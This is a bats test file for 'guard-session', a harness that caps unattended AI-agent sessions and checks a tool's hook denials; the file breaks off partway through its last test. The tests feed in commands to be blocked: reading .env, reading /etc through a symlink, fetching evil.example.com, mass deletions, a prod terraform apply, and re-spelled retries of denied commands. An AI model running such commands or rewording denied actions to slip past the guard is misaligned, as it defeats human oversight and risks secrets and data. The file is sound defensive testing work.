#!/usr/bin/env bats
# guard-session: unattended sessions, their limits, the hook's counters,
# the PR body, deferred plans and the briefing. Fixture repos are built
# with the git CLI; time limits are tested by ageing the state files.
# A session's live state is in git's common directory ($(state_dir)), its
# reports in .ai/sessions.

load helper

setup() {
	setup_guard
	git -C "$PROJ" config user.email t@example.com
	git -C "$PROJ" config user.name tester
	git -C "$PROJ" checkout -q -b main
	printf 'one\ntwo\nthree\n' >"$PROJ/src/main.c"
	printf 'doc\n' >"$PROJ/README"
	git -C "$PROJ" add -A && git -C "$PROJ" commit -qm init
}

# Tighter limits in the project layer, so each threshold is a few calls away.
small_limits() {
	mkdir -p .ai
	cat >.ai/policy.yaml <<'Y'
version: 1
session:
  max_loc: 5
  max_files_created: 2
  max_files_modified: 3
  max_files_deleted: 2
  max_loc_per_day: 8
  same_file_streak: 3
  denied_retries: 2
Y
}

# Where the live states are: <git common dir>/guard/sessions.
state_dir() {
	printf '%s/guard/sessions' "$(cd "$(git rev-parse --git-common-dir)" && pwd -P)"
}

start() {
	run --separate-stderr guard-session start --task "${1:-t1}"
	[ "$status" -eq 0 ]
	export GUARD_SESSION=${output#export GUARD_SESSION=}
	STATE=$(state_dir)/$GUARD_SESSION.json
}

# hook PHASE TOOL INPUT-JSON [use-id]: one hook call, answer in $output.
hook() {
	local ev=PreToolUse
	[ "$1" = post ] && ev=PostToolUse
	run --separate-stderr guard hook claude <<<"$(jq -cn --arg e "$ev" --arg t "$2" --argjson i "$3" --arg cwd "$PROJ" --arg u "${4:-u1}" \
		'{session_id:"c1",cwd:$cwd,hook_event_name:$e,tool_name:$t,tool_input:$i,tool_use_id:$u,tool_response:{}}')"
	[ "$status" -eq 0 ]
}

# A call that runs: pre, then the effect ($4, a shell snippet), then post.
call() {
	hook pre "$1" "$2" "$3"
	[ "$(printf '%s' "$output" | jq -r '.continue')" != false ] || return 0
	eval "$4"
	hook post "$1" "$2" "$3"
}

stopped() { [ "$(printf '%s' "$output" | jq -r '.continue')" = false ]; }
not_stopped() { [ "$(printf '%s' "$output" | jq -r '.continue')" != false ]; }
field() { jq -r "$1" "$STATE"; }

# Set a timestamp of the state to N seconds ago (atomic, like guard does).
age() {
	local ts
	ts=$(date -u -d "@$(($(date +%s) - $2))" +%Y-%m-%dT%H:%M:%S.000Z)
	jq --arg t "$ts" ".$1 = \$t" "$STATE" >"$STATE.tmp" && mv "$STATE.tmp" "$STATE"
}

# A finished session of today: fake_session ID ENDED-SECONDS-AGO LOC [day_stopped],
# in the live state (old_session: in the old layout, .ai/sessions, to be imported).
fake_session() {
	local dir=${FAKE_DIR:-$(state_dir)} now=$(date +%s) started ended
	started=$(date -u -d "@$((now - $2 - 60))" +%Y-%m-%dT%H:%M:%S.000Z)
	ended=$(date -u -d "@$((now - $2))" +%Y-%m-%dT%H:%M:%S.000Z)
	[ "$(date -u -d "@$((now - $2 - 60))" +%F)" = "$(date -u +%F)" ] || skip "too close to midnight UTC for a same-day fixture"
	mkdir -p "$dir"
	jq -n --arg id "$1" --arg s "$started" --arg e "$ended" --argjson loc "$3" --argjson stop "${4:-false}" \
		'{v:1,id:$id,task:"old",status:"ended",started_at:$s,ended_at:$e,last_activity:$e,
		  limits:{},counters:{loc:$loc},day_stopped:$stop}' >"$dir/$1.json"
}
old_session() { FAKE_DIR=.ai/sessions fake_session "$@"; }

# Wait (5 s at most) until the session of task $1 is marked running.
wait_running() {
	wait_for "session $1 to be running" \
		sh -c 'jq -e ".status == \"running\"" "$1"/*-"$2".json >/dev/null 2>&1' _ "$(state_dir)" "$1"
}

# Take a finished session out of the cooldown: ended long ago.
cooled() {
	jq '.ended_at = "2000-01-01T00:00:00Z"' "$1" >"$1.tmp" && mv "$1.tmp" "$1"
}

@test "start cuts the session branch from main, records the state and prints the export" {
	git checkout -q -b other
	start fix-parser
	[[ "$GUARD_SESSION" == *-fix-parser ]]
	[ "$(git branch --show-current)" = "ai/nightbuilder/$(date -u +%F)/fix-parser" ]
	[ "$(field .base)" = "$(git rev-parse main)" ]
	[ "$(field .status)" = running ]
	[ "$(field .limits.max_loc)" = 1000 ]
	[ "$(field .limits.max_duration)" = 14400 ]
	jq -e '.started_at and .last_activity' "$STATE"
	# the report for people, beside the session's log
	[ "$(jq -r .branch ".ai/sessions/$GUARD_SESSION.json")" = "$(field .branch)" ]
	grep -q '"event":"session.start"' ".ai/sessions/$GUARD_SESSION.log.jsonl"
	run guard-session list
	[ "$status" -eq 0 ]
	[[ "$output" == *"$GUARD_SESSION"*running* ]]
}

@test "start refuses a dirty tree, a protected branch, a bad slug and no repository" {
	echo change >>src/main.c
	run guard-session start --task t1
	[ "$status" -eq 1 ]
	[[ "$output" == *"not clean"*"src/main.c"* ]]
	git checkout -q src/main.c
	echo new >untracked.txt
	run guard-session start --task t1
	[ "$status" -eq 1 ]
	rm untracked.txt
	sed 's|pattern: "ai/nightbuilder/{date}/{slug}"|pattern: "{slug}"|' "$REPO_ROOT/policy/nightbuilder.yaml" >"$BATS_TEST_TMPDIR/nb.yaml"
	GUARD_NIGHTBUILDER_POLICY=$BATS_TEST_TMPDIR/nb.yaml run guard-session start --task develop
	[ "$status" -eq 1 ]
	[[ "$output" == *"'develop' is protected"* ]]
	run guard-session start --task 'Bad/Slug'
	[ "$status" -eq 2 ]
	[ "$(git branch --show-current)" = main ]
	mkdir "$BATS_TEST_TMPDIR/norepo" && cd "$BATS_TEST_TMPDIR/norepo"
	run guard-session start --task t1
	[ "$status" -eq 5 ]
}

@test "unknown and malformed sessions: exit 5 and a clear error, nothing changed" {
	run guard-session status --id nope
	[ "$status" -eq 5 ]
	[[ "$output" == *"no session 'nope'"* ]]
	run guard-session check --id ../../etc
	[ "$status" -eq 2 ]
	mkdir -p "$(state_dir)" && printf '{"id": "bad", "status": ' >"$(state_dir)/bad.json"
	run guard-session status --id bad
	[ "$status" -eq 2 ]
	[[ "$output" == *"not a session state file"* ]]
	[ "$(cat "$(state_dir)/bad.json")" = '{"id": "bad", "status": ' ]
	GUARD_SESSION=bad run --separate-stderr guard hook claude <<<"$(bash_payload 'ls')"
	[ "$status" -eq 2 ]
	[ "$(decision_of)" = deny ]
}

@test "sessions per day: the third start of the day is allowed, the fourth refused" {
	fake_session s1 7200 0
	fake_session s2 3600 0
	run guard-session start --task t3
	[ "$status" -eq 0 ]
	git checkout -q main
	fake_session s3 3000 0
	jq '.status = "ended" | .ended_at = "2000-01-01T00:00:00Z"' "$(state_dir)"/*-t3.json >x && mv x "$(state_dir)"/*-t3.json
	run guard-session start --task t4
	[ "$status" -eq 1 ]
	[[ "$output" == *"4 sessions today already, the limit is 3"* || "$output" == *"sessions today already"* ]]
	grep -q session.refuse .ai/sessions/refused.log.jsonl
}

@test "cooldown: refused 14 minutes after the last session, allowed at 15" {
	fake_session s1 840 0
	run guard-session start --task t1
	[ "$status" -eq 1 ]
	[[ "$output" == *"cooldown"* ]]
	fake_session s1 900 0
	run guard-session start --task t1
	[ "$status" -eq 0 ]
}

@test "today's LOC budget: 2,999 lines allow a start, 3,000 refuse it, a stopped day refuses" {
	fake_session s1 3600 2999
	run guard-session start --task t1
	[ "$status" -eq 0 ]
	git checkout -q main && rm "$(state_dir)"/*-t1.json
	fake_session s1 3600 3000
	run guard-session start --task t1
	[ "$status" -eq 1 ]
	[[ "$output" == *"LOC budget is used up (3000 of 3000"* ]]
	fake_session s1 3600 10 true
	run guard-session start --task t1
	[ "$status" -eq 1 ]
	[[ "$output" == *"stopped for"* ]]
}

# LOC: what guard-session check measures against git diff --numstat of the
# same trees (untracked files added through a scratch index).
numstat_git() {
	local idx=$BATS_TEST_TMPDIR/index
	cp .git/index "$idx"
	GIT_INDEX_FILE=$idx git add -A
	GIT_INDEX_FILE=$idx git diff --cached --numstat -z -M "$1" -- . ':!.ai' ':!PENDING_PLANS.md' | python3 -c '
import sys
d = sys.stdin.buffer.read().split(b"\0"); i = 0; out = []
while i < len(d) - 1:
    a, r, p = d[i].split(b"\t", 2)
    if p == b"": p = d[i + 2]; i += 3
    else: i += 1
    out.append("%s\t%s\t%s" % (a.decode(), r.decode(), p.decode()))
print("\n".join(sorted(out)))'
}
numstat_guard() {
	guard-session check --json | jq -r '.changes[] | "\(if .binary then "-" else .added end)\t\(if .binary then "-" else .deleted end)\t\(.path)"' | sort
}

@test "LOC equals git diff --numstat: edits, renames, binary, deleted, untracked and CRLF" {
	seq 1 40 >src/long.txt
	printf 'a\r\nb\r\n' >src/crlf.txt
	printf 'x\0y' >src/blob.bin
	printf 'gone\n' >src/gone.txt
	git add -A && git commit -qm more
	start loc
	base=$(field .base)
	printf 'zero\n' | cat - src/main.c >x && mv x src/main.c            # edit
	git mv src/long.txt src/longer.txt && echo 41 >>src/longer.txt     # rename + edit
	printf 'x\0z\0w' >src/blob.bin                                      # binary
	rm src/gone.txt                                                     # deleted
	printf 'n1\nn2\nn3\n' >src/new.c                                    # untracked
	mkdir -p src/deep && printf 'd\n' >src/deep/d.c                     # untracked dir
	printf 'a\r\nB\r\nc\n' >src/crlf.txt                                # CRLF
	printf 'bin\0' >src/newbin.dat                                      # untracked binary
	echo state >>.ai/sessions/extra.txt                                 # guard's own: never
	run numstat_guard
	want=$(numstat_git "$base")
	echo "guard:"; echo "$output"; echo "git:"; echo "$want"
	[ "$output" = "$want" ]
	[[ "$want" == *"src/longer.txt"* ]]
	[[ "$want" == *"-	-	src/blob.bin"* ]]
	[ "$(field .counters.loc)" = "$(printf '%s\n' "$want" | awk '$1 != "-" {s += $1} END {print s}')" ]
}

@test "max_loc: 5 lines pass, the 6th ends the session at the next call" {
	small_limits
	start
	printf '1\n2\n3\n4\n' >src/new.c
	printf 'x\n' >>src/main.c
	run guard-session check
	[ "$status" -eq 0 ]
	printf 'y\n' >>src/main.c
	run guard-session check
	[ "$status" -eq 1 ]
	[[ "$output" == *"limit breached: loc (6 lines of code in the session, over the limit of 5)"* ]]
	hook pre Bash '{"command":"ls"}'
	stopped
	[ "$(decision_of)" = deny ]
	[ "$(field .status)" = ended ]
}

@test "files created: the 2nd new file passes, the 3rd ends the session" {
	small_limits
	start
	for f in a b; do
		call Write "{\"file_path\":\"$PROJ/src/$f.c\",\"content\":\"x\"}" u$f "echo x >src/$f.c"
		not_stopped
	done
	[ "$(field .counters.files_created)" = 2 ]
	call Write "{\"file_path\":\"$PROJ/src/c.c\",\"content\":\"x\"}" uc "echo x >src/c.c"
	stopped
	[ "$(field .status)" = ended ]
	[[ "$(field .end_reason)" == *"3 files created, over the limit of 2"* ]]
	grep -q '"event":"session.terminate".*"limit":"files_created"' ".ai/sessions/$GUARD_SESSION.log.jsonl"
}

@test "files modified: over the limit is a warning, recorded and shown, not an end" {
	small_limits
	start
	for f in f1 f2 f3 f4; do echo x >src/$f.c; done
	git add -A && git commit -qm files && git checkout -q main 2>/dev/null; git checkout -q -
	for f in f1 f2 f3; do
		call Edit "{\"file_path\":\"$PROJ/src/$f.c\",\"old_string\":\"x\",\"new_string\":\"y\"}" u$f "echo y >src/$f.c"
	done
	[ "$(field '.warnings | length')" = 0 ]
	call Edit "{\"file_path\":\"$PROJ/src/f4.c\",\"old_string\":\"x\",\"new_string\":\"y\"}" uf4 "echo y >src/f4.c"
	not_stopped
	[ "$(field .status)" = running ]
	[ "$(field '.warnings[0].limit')" = files_modified ]
	run guard-session status
	[[ "$output" == *"WARNING: files_modified"* ]]
	grep -q session.warn ".ai/sessions/$GUARD_SESSION.log.jsonl"
}

@test "same-file streak: 2 edits in a row pass, the 3rd ends the session (P3)" {
	small_limits
	start
	for i in 1 2; do
		call Edit "{\"file_path\":\"$PROJ/src/main.c\",\"old_string\":\"one\",\"new_string\":\"one\"}" u$i "echo $i >>src/main.c"
		not_stopped
	done
	call Edit "{\"file_path\":\"$PROJ/README\",\"old_string\":\"doc\",\"new_string\":\"d\"}" ur "echo r >>README"
	for i in 3 4; do
		call Edit "{\"file_path\":\"$PROJ/src/main.c\",\"old_string\":\"one\",\"new_string\":\"one\"}" u$i "echo $i >>src/main.c"
		not_stopped
	done
	call Edit "{\"file_path\":\"$PROJ/src/main.c\",\"old_string\":\"one\",\"new_string\":\"one\"}" u5 "echo 5 >>src/main.c"
	stopped
	[ "$(field '.breaches[0].limit')" = same_file_streak ]
	[ "$(field '.breaches[0].incident')" = P3 ]
}

@test "files deleted (seed 004: 10 or more): 9 pass, the rm naming the 10th is denied before it runs (P2)" {
	for i in $(seq 1 12); do echo x >src/d$i.c; done
	git add -A && git commit -qm del
	start
	call Bash '{"command":"rm src/d1.c src/d2.c src/d3.c src/d4.c src/d5.c src/d6.c src/d7.c src/d8.c"}' u1 "rm src/d[1-8].c"
	not_stopped
	call Bash '{"command":"rm src/d9.c"}' u2 "rm src/d9.c"
	not_stopped
	[ "$(field .counters.files_deleted)" = 9 ]
	hook pre Bash '{"command":"rm src/d10.c"}' u3
	stopped
	[ "$(decision_of)" = deny ]
	[ -f src/d10.c ]
	[ "$(field .status)" = ended ]
	[ "$(field '.breaches[0].limit')" = files_deleted ]
	[ "$(field '.breaches[0].value')" = 10 ]
	[ "$(field '.breaches[0].predicted')" = true ]
	[ "$(field '.breaches[0].incident')" = P2 ]
	[[ "$(field .end_reason)" == *"10 files deleted, at the limit of 10 (predicted before the call"* ]]
}

# A fresh session of the seed's limits, with the files $1..$2 under src/$3.
many_files() {
	mkdir -p "src/$3"
	for i in $(seq "$1" "$2"); do echo x >"src/$3/f$i.tmp"; done
	git add -A && git commit -qm many
	start
}

@test "one rm naming 10 files is denied beforehand; 9 are allowed" {
	many_files 1 10 m
	hook pre Bash '{"command":"rm src/m/f1.tmp src/m/f2.tmp src/m/f3.tmp src/m/f4.tmp src/m/f5.tmp src/m/f6.tmp src/m/f7.tmp src/m/f8.tmp src/m/f9.tmp"}' u1
	not_stopped
	[ "$(decision_of)" = allow ]
	hook pre Bash '{"command":"rm src/m/f1.tmp src/m/f2.tmp src/m/f3.tmp src/m/f4.tmp src/m/f5.tmp src/m/f6.tmp src/m/f7.tmp src/m/f8.tmp src/m/f9.tmp src/m/f10.tmp"}' u2
	stopped
	[ "$(decision_of)" = deny ]
	[ "$(ls src/m | wc -l)" = 10 ]
	[ "$(field '.breaches[0].limit')" = files_deleted ]
}

@test "other spellings of 10 deletions are denied beforehand: find -delete, git rm, a chain; rm -r by the policy" {
	many_files 1 10 m
	hook pre Bash '{"command":"rm -rf src/m"}' u1
	[ "$(decision_of)" = deny ]
	hook pre Bash '{"command":"find . -name \"*.tmp\" -delete"}' u1
	stopped
	[ "$(field '.breaches[0].value')" = 10 ]
	rm "$STATE"
	start
	hook pre Bash '{"command":"git rm -q src/m/f1.tmp src/m/f2.tmp src/m/f3.tmp src/m/f4.tmp src/m/f5.tmp src/m/f6.tmp src/m/f7.tmp src/m/f8.tmp src/m/f9.tmp src/m/f10.tmp"}' u1
	stopped
	rm "$STATE"
	start
	hook pre Bash '{"command":"rm src/m/f1.tmp; rm src/m/f2.tmp && rm src/m/f3.tmp src/m/f4.tmp src/m/f5.tmp; rm src/m/f6.tmp src/m/f7.tmp src/m/f8.tmp src/m/f9.tmp src/m/f10.tmp"}' u1
	stopped
	[ "$(ls src/m | wc -l)" = 10 ]
}

# write_json PATH LINES: the Write tool's input for a file of LINES numbered lines.
write_json() {
	jq -cn --arg p "$PROJ/$1" --arg c "$(seq 1 "$2")" '{file_path:$p,content:($c + "\n")}'
}

@test "LOC (seed 004: 1,000 a session): a Write of 1,000 lines passes, one more line is denied before it is written" {
	start
	call Write "$(write_json src/big.c 1000)" u1 "seq 1 1000 >src/big.c"
	not_stopped
	[ "$(field .counters.loc_pending)" = 1000 ]
	hook pre Write "$(write_json src/one.c 1)" u2
	stopped
	[ "$(decision_of)" = deny ]
	[ ! -e src/one.c ]
	[ "$(field '.breaches[0].limit')" = loc ]
	[[ "$(field .end_reason)" == *"1001 lines of code in the session, over the limit of 1000 (predicted"* ]]
}

@test "a single Write of 1,500 lines is denied before it runs; an Edit's added lines count; check resets the estimate" {
	start
	hook pre Write "$(write_json src/huge.c 1500)" u1
	stopped
	[ "$(field '.breaches[0].value')" = 1500 ]
	rm "$STATE"
	small_limits
	start
	seq 1 3 >src/e.c
	run guard-session check --json
	[ "$(printf '%s' "$output" | jq .counters.loc)" = 3 ]
	[ "$(field .counters.loc_pending)" = null ]
	# an Edit turning 1 line into 3 adds 2 lines: 5 in all, at the limit
	call Edit "$(jq -cn --arg p "$PROJ/src/e.c" '{file_path:$p,old_string:"2",new_string:"2\na\nb"}')" u2 "printf '1\n2\na\nb\n3\n' >src/e.c"
	not_stopped
	hook pre Edit "$(jq -cn --arg p "$PROJ/src/e.c" '{file_path:$p,old_string:"3",new_string:"c"}')" u3
	stopped
	[ "$(field '.breaches[0].limit')" = loc ]
}

@test "files created (seed 004: 20): touch, a redirect and mkdir make 20, the 21st is denied before it runs" {
	start
	files=$(for i in $(seq 1 19); do printf 'src/c%d.c ' "$i"; done)
	call Bash "{\"command\":\"touch $files\"}" u1 "touch $files"
	not_stopped
	call Bash '{"command":"echo x > src/c20.c"}' u2 "echo x > src/c20.c"
	not_stopped
	[ "$(field .counters.files_created)" = 20 ]
	hook pre Bash '{"command":"mkdir src/d21"}' u3
	stopped
	[ ! -e src/d21 ]
	[ "$(field '.breaches[0].limit')" = files_created ]
	[ "$(field '.breaches[0].value')" = 21 ]
}

@test "same file (seed 004: 5 times in a row): 4 edits pass, the 5th is denied before it runs (P3)" {
	start
	for i in 1 2 3 4; do
		call Edit "{\"file_path\":\"$PROJ/src/main.c\",\"old_string\":\"one\",\"new_string\":\"one\"}" u$i "echo $i >>src/main.c"
		not_stopped
	done
	hook pre Edit "{\"file_path\":\"$PROJ/src/main.c\",\"old_string\":\"one\",\"new_string\":\"one\"}" u5
	stopped
	[ "$(field '.breaches[0].limit')" = same_file_streak ]
	[ "$(field '.breaches[0].value')" = 5 ]
	[ "$(field '.breaches[0].incident')" = P3 ]
	[ "$(grep -c . src/main.c)" = 7 ]
}

@test "LOC a day (seed 004: 3,000): at 3,000 the call passes, the line past it is denied and stops the day" {
	fake_session s0 3600 2500
	start
	run guard-session check
	[ "$(field .counters.day_loc)" = 2500 ]
	call Write "$(write_json src/day.c 500)" u1 "seq 1 500 >src/day.c"
	not_stopped
	hook pre Write "$(write_json src/more.c 1)" u2
	stopped
	[ "$(field '.breaches[0].limit')" = loc_per_day ]
	[ "$(field .day_stopped)" = true ]
}

@test "outside the project: project reads pass, one read through a symlink out ends it (P3)" {
	start
	hook pre Bash '{"command":"cat src/main.c README"}'
	not_stopped
	ln -s /etc "$PROJ/etc-link"
	hook pre Bash '{"command":"cat etc-link/hostname"}'
	stopped
	[ "$(decision_of)" = deny ]
	[ "$(field '.breaches[0].limit')" = outside_project ]
	[ "$(field '.outside[0]')" = /etc/hostname ]
	[ "$(field '.breaches[0].incident')" = P3 ]
}

@test "network: an allowed host passes, any other host ends the session (P3)" {
	start
	hook pre Bash '{"command":"git clone https://github.com/a/b"}'
	not_stopped
	hook pre WebFetch '{"url":"https://evil.example.com/x","prompt":"p"}'
	stopped
	[ "$(field '.hosts[0]')" = evil.example.com ]
	[ "$(field '.breaches[0].limit')" = unknown_host ]
}

@test "denied retries: the same denied command tried 2 times passes, a 2nd retry ends it (P2)" {
	small_limits
	start
	hook pre Bash '{"command":"cat .env"}'
	[ "$(decision_of)" = deny ]
	not_stopped
	hook pre Bash '{"command":"cat .env"}'
	not_stopped
	[ "$(field .counters.denied_retries)" = 1 ]
	hook pre Bash '{"command":"cat src/main.c"}'
	[ "$(decision_of)" = allow ]
	hook pre Bash '{"command":"cat .env"}'
	stopped
	[ "$(field '.breaches[0].limit')" = denied_retries ]
	[ "$(field '.breaches[0].incident')" = P2 ]
}

@test "denied retries are the same action in other spellings: spaces, quotes, option order, --flag=v, an extra flag" {
	start
	hook pre Bash '{"command":"terraform apply --var=env=prod -input=false"}'
	[ "$(decision_of)" = deny ]
	hook pre Bash '{"command":"terraform  apply   -input=false --var env=prod"}'
	not_stopped
	[ "$(field .counters.denied_retries)" = 1 ]
	hook pre Bash '{"command":"\"terraform\" '"'"'apply'"'"' -auto-approve -input=false --var=env=prod"}'
	not_stopped
	[ "$(field .counters.denied_retries)" = 2 ]
	hook pre Bash '{"command":"terraform apply -input=false --var=env=prod"}'
	stopped
	[ "$(field .counters.denied_retries)" = 3 ]
	[ "$(field '.breaches[0].limit')" = denied_retries ]
}

@test "denied retries: another target or another rule is another action" {
	start
	hook pre Bash '{"command":"terraform apply"}'
	hook pre Bash '{"command":"terraform destroy"}'
	hook pre Bash '{"command":"cat .env"}'
	hook pre Bash '{"command":"cat .env.local"}'
	hook pre Bash '{"command":"pulumi up"}'
	not_stopped
	[ "$(field .counters.denied_retries)" = 0 ]
}

@test "session duration: 4h minus a minute passes, 4h ends it" {
	start
	age started_at $((4 * 3600 - 60))
	hook pre Bash '{"command":"ls"}'
	not_stopped
	age started_at $((4 * 3600))
	hook pre Bash '{"command":"ls"}'
	stopped
	[ "$(field '.breaches[0].limit')" = duration ]
}

@test "idle: 29 minutes without a call pass, 30 minutes end the session" {
	start
	age last_activity $((29 * 60))
	hook pre Bash '{"command":"ls"}'
	not_stopped
	age last_activity $((30 * 60))
	run guard-session check
	[ "$status" -eq 1 ]
	[[ "$output" == *"limit breached: idle"* ]]
	hook post Bash '{"command":"ls"}'
	stopped
}

@test "LOC per day: a breach ends the session and stops unattended starts for the day" {
	small_limits
	fake_session s0 3600 4
	start
	printf '1\n2\n3\n4\n' >src/new.c
	run guard-session check --json
	[ "$status" -eq 0 ]
	[ "$(printf '%s' "$output" | jq .counters.day_loc)" = 8 ]
	echo 5 >>src/new.c
	run guard-session check
	[ "$status" -eq 1 ]
	[[ "$output" == *"loc_per_day"* ]]
	hook pre Bash '{"command":"ls"}'
	stopped
	[ "$(field .day_stopped)" = true ]
	run guard-session end
	[ "$status" -eq 0 ]
	git add src && git commit -qm wip && git checkout -q main
	jq '.ended_at = "2000-01-01T00:00:00Z"' "$STATE" >x && mv x "$STATE"
	run guard-session start --task again
	[ "$status" -eq 1 ]
	[[ "$output" == *"stopped for"* ]]
}

@test "end writes the PR body: files, LOC, scan, log, labels, reviewers, gh line" {
	start auth-fix
	mkdir -p src/auth tests
	printf 'int ok;\n' >src/auth/login.c
	printf -- '-----BEGIN RSA PRIVATE KEY-----\n' >src/key.txt
	printf 't\n' >tests/t.c
	git add src tests && git commit -qm 'Check the login token before the session starts'
	printf 'wip\n' >src/wip.c # left uncommitted: listed apart, not in the PR
	run --separate-stderr guard-session end
	[ "$status" -eq 0 ]
	[[ "$output" == "gh pr create --base main --head ai/nightbuilder/"*"--title 'Check the login token before the session starts' --body-file .ai/sessions/$GUARD_SESSION.pr.md"*"--label 'needs-security-review'"* ]]
	[[ "$stderr" == *"1 change left uncommitted in the working tree, not in the PR"* ]]
	# the security team the auth path calls for, as a reviewer, and no other team
	[[ "$output" == *" --reviewer 'security'" ]]
	[[ "$output" != *"--reviewer 'dba'"* ]]
	body=.ai/sessions/$GUARD_SESSION.pr.md
	grep -q '^# Check the login token before the session starts$' "$body"
	grep -q '^## Summary' "$body"
	grep -q '^- Check the login token before the session starts (`[0-9a-f]\{12\}`)$' "$body"
	grep -q '^## Changed files (3)$' "$body"
	grep -q '| A | `src/auth/login.c` | 1 | 0 |' "$body"
	# the uncommitted file only under its own heading, after the PR's files
	grep -q '^### Not committed: left in the working tree, not in this PR (1)$' "$body"
	[ "$(grep -c 'src/wip.c' "$body")" = 1 ]
	[ "$(grep -n 'src/wip.c' "$body" | cut -d: -f1)" -gt "$(grep -n '^### Not committed' "$body" | cut -d: -f1)" ]
	grep -q '^3 added, 0 deleted in the commits' "$body"
	grep -q '\*\*private-key\*\* `src/key.txt:1`' "$body"
	grep -q '^\*\*실패 (fail)\*\*: 1 finding in the added lines: 1 secret, 0 forbidden patterns' "$body"
	grep -q "\`.ai/sessions/$GUARD_SESSION.log.jsonl\`" "$body"
	grep -q '`ai-generated`, `nightbuilder`, `needs-security-review`' "$body"
	grep -q 'security paths changed: 2 reviewers + team security' "$body"
	[ "$(field .status)" = ended ]
	grep -q '"event":"session.end"' ".ai/sessions/$GUARD_SESSION.log.jsonl"
}

@test "the PR body's scan reads a file's added lines together: a multi-line rule matches, as guard-scan range finds it" {
	export GUARD_USER_POLICY=$BATS_TEST_TMPDIR/user.yaml
	cat >"$GUARD_USER_POLICY" <<'Y'
forbidden_patterns:
  - id: todo-block
    regex: '^TODO:\n^  owner: \w+$'
    message: an owned TODO block
    keywords: [todo]
    multiline: true
Y
	start multi
	printf 'int a;\nTODO:\n  owner: bob\n' >src/block.c
	# the two lines split: not added together, so not one block
	printf 'TODO:\n' >src/half.c
	git add src && git commit -qm 'Add the blocks'
	base=$(git rev-parse main)
	run guard-scan range "$base..HEAD" --format jsonl
	[ "$(jq -r 'select(.rule=="todo-block") | "\(.path):\(.line)"' <<<"$output")" = src/block.c:2 ]
	run --separate-stderr guard-session end
	[ "$status" -eq 0 ]
	body=.ai/sessions/$GUARD_SESSION.pr.md
	grep -q '\*\*todo-block\*\* `src/block.c:2`' "$body"
	[ "$(grep -c 'todo-block' "$body")" = 1 ]
	grep -q '^\*\*실패 (fail)\*\*: 1 finding in the added lines: 0 secrets, 1 forbidden pattern' "$body"
}

@test "a tests-only change needs one reviewer and no security label" {
	start tests-only
	mkdir -p tests && printf 't\n' >tests/t_a.c
	git add tests && git commit -qm 'Test a'
	run guard-session end
	[ "$status" -eq 0 ]
	[[ "$output" != *needs-security-review* ]]
	grep -q 'tests only: 1 reviewer$' .ai/sessions/$GUARD_SESSION.pr.md
	grep -q '^\*\*통과 (pass)\*\*: 0 findings' .ai/sessions/$GUARD_SESSION.pr.md
}

# The ending of the run of task $1 as status --json shows it.
ending_of() {
	guard-session status --json --id "$(basename "$(ls "$(state_dir)"/*-"$1".json)" .json)" | jq -cS '.ending'
}

@test "run: a command that finishes is completed, exit 0, and no .lock is left behind" {
	run guard-session run --task r0 -- sh -c 'echo "$GUARD_SESSION" >src/sid.txt'
	[ "$status" -eq 0 ]
	id=$(cat src/sid.txt)
	[ "$(jq -r .status "$(state_dir)/$id.json")" = ended ]
	[ "$(ending_of r0)" = '{"kind":"completed"}' ]
	[ -f .ai/sessions/$id.pr.md ]
	[ ! -e "$(state_dir)/$id.lock" ]
	[ -z "$(find "$(state_dir)" -name '2*.lock')" ]
}

@test "run: a command that fails is agent_failed, exit 11, whatever its own status" {
	run guard-session run --task r1 -- sh -c 'echo "$GUARD_SESSION" >src/sid.txt; git add src && git commit -qm sid; exit 3'
	[ "$status" -eq 11 ]
	id=$(cat src/sid.txt)
	[ "$(jq -r .status "$(state_dir)/$id.json")" = ended ]
	[ "$(jq -r .status .ai/sessions/$id.json)" = ended ]
	[[ "$output" == *"gh pr create"* ]]
	[ "$(ending_of r1)" = '{"kind":"agent_failed"}' ]
}

@test "run: a breach the hook ended is exit 10 with the limit and incident in status --json, though the agent exits 0" {
	cat >agent.sh <<'A'
#!/bin/sh
# a stand-in for headless Claude: calls the hook and obeys it
out=$(printf '%s' '{"session_id":"c","cwd":"'"$PWD"'","hook_event_name":"PreToolUse","tool_name":"WebFetch","tool_input":{"url":"https://evil.example.com/","prompt":"p"},"tool_use_id":"u1"}' | guard hook claude)
case $out in *'"continue":false'*) exit 0 ;; esac
exit 7
A
	chmod +x agent.sh && echo agent.sh >>.git/info/exclude
	run guard-session run --task r2 -- ./agent.sh
	[ "$status" -eq 10 ]
	[ "$(ending_of r2)" = '{"incident":"P3","kind":"breach","limit":"unknown_host"}' ]
}

@test "run: a duration of 2s set in the policy stops the command with TERM then KILL, exit 10" {
	mkdir -p .ai && printf 'version: 1\nsession:\n  max_duration: 2s\n' >.ai/policy.yaml
	run guard-session run --task r3 -- sh -c 'trap "" TERM; sleep 60'
	[ "$status" -eq 10 ]
	[ "$(ending_of r3)" = '{"kind":"breach","limit":"duration"}' ]
	[[ "$output" == *"session duration, at the limit of 2s"* ]]
}

@test "run: an idle timeout of 2s set in the policy ends a silent agent, exit 10" {
	mkdir -p .ai && printf 'version: 1\nsession:\n  idle_timeout: 2s\n' >.ai/policy.yaml
	run guard-session run --task r4 -- sleep 60
	[ "$status" -eq 10 ]
	[ "$(ending_of r4)" = '{"kind":"breach","limit":"idle"}' ]
}

@test "run: refused at start is exit 1; a supervisor told to stop is interrupted, exit 12" {
	echo dirty >>README
	run guard-session run --task r5 -- true
	[ "$status" -eq 1 ]
	[[ "$output" == *"refusing to start"* ]]
	git checkout -q README
	guard-session run --task r6 -- sleep 60 3>&- &
	sup=$!
	wait_running r6
	wait_for_child "$sup" sleep >/dev/null
	kill -TERM "$sup"
	wait "$sup" && st=0 || st=$?
	[ "$st" -eq 12 ]
	[ "$(ending_of r6)" = '{"kind":"interrupted"}' ]
}

@test "a killed supervisor leaves a session that status reports as interrupted" {
	guard-session run --task r3 -- sleep 60 3>&- &
	sup=$!
	wait_running r3
	# the command itself, past its exec (before it, TERM would not end it)
	child=$(wait_for_child "$sup" sleep)
	kill -9 "$sup"
	wait "$sup" || true
	[ -n "$child" ] && kill "$child"
	id=$(basename "$(state_dir)"/*-r3.json .json)
	run guard-session status --id "$id"
	[ "$status" -eq 0 ]
	[[ "$output" == *"($id) interrupted"* || "$output" == *"$id (interrupted)"* ]]
	[ "$(jq -r .status "$(state_dir)/$id.json")" = running ]
	run guard-session list --json
	[ "$(printf '%s' "$output" | jq -r '.[0].status')" = interrupted ]
}

@test "F10: lines hidden by .gitattributes (-diff, binary, diff=) are counted; a file with a NUL byte stays binary" {
	start attrs
	mkdir -p src/a src/b src/c
	printf '*.c -diff\n' >src/a/.gitattributes
	printf '*.c binary\n' >src/b/.gitattributes
